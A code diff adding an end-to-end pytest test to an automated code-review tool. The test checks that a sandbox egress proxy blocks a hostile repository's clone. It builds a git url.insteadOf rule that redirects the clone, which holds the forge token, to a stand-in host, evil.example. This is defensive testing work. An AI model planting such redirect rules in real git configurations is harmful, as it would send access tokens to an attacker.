@@ -15,14 +15,17 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from structlog.testing import capture_logs
 from tests.e2e._harness import Harness, finding, line_of, review_answer
 from tests.fakes.forge import FakeForge
 from tests.fakes.forge_git import Symlink
 from tests.fakes.llm import ScriptedModel, reply
 from tests.fakes.llm_script import RecordedRequest
+from tests.unit.sandbox._helpers import require
 
-from auto_review.review import Outcome
+from auto_review.review import Outcome, workspace
 from auto_review.review._options import PipelineOptions
+from auto_review.sandbox import Tier
 from auto_review.settings import LLMConfig
 
 HEAD = "import os\n\n\ndef run(cmd):\n    return os.system(cmd)\n"
@@ -111,3 +114,36 @@ def test_hostile_repository_cannot_leak_host_files_or_token_into_prompts(
     assert "symlinks are not followed" in sent
     # Nothing was left behind: the workspace is gone, the submodule never fetched.
     assert not any(p.name.startswith("ar-ws-") for p in harness.tmp_path.iterdir())
+
+
+def test_clone_steered_to_another_origin_is_refused_and_the_review_says_where(
+    harness: Harness, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Attack: git, exploited by a hostile repository while it holds the forge token, connects
+    to the attacker's server on the forge's port (here a url.insteadOf rule stands in for the
+    exploit). Control: the full tier's egress proxy refuses it (F9, ADR 0009); the review goes
+    on with the diff only, its note names the refused destination for the operator, and a
+    structured warning is logged, without the token in either."""
+    require(Tier.FULL)
+    number = _hostile_pr(harness.forge)
+    port = harness.forge.url.rsplit(":", 1)[1]
+    rule = f"url.http://evil.example:{port}/.insteadOf={harness.forge.url}/"
+    monkeypatch.setattr(workspace, "HARDENING", (*workspace.HARDENING, rule))
+    harness.answer_reviews(review_answer())
+    with capture_logs() as logged:
+        outcome = asyncio.run(harness.run("eve/evil", number))
+    assert outcome.outcome is Outcome.POSTED
+    [review] = harness.forge.repo("eve/evil").reviews
+    refused = f"the sandbox refused the clone's connection to evil.example:{port}"
+    assert f"could not be checked out (git fetch failed: {refused} (not the forge's origin))" in (
+        review.body
+    )
+    [warning] = [e for e in logged if e["event"] == "clone_egress_refused"]
+    assert warning["log_level"] == "warning"
+    assert (warning["repo"], warning["number"], warning["clone"]) == ("eve/evil", number, "failed")
+    assert warning["refused"][0] == {
+        "status": 403,
+        "reason": "destination not allowed by the sandbox policy",
+        "destination": f"evil.example:{port}",
+    }
+    assert harness.forge.bot_token not in f"{review.body} {logged}"
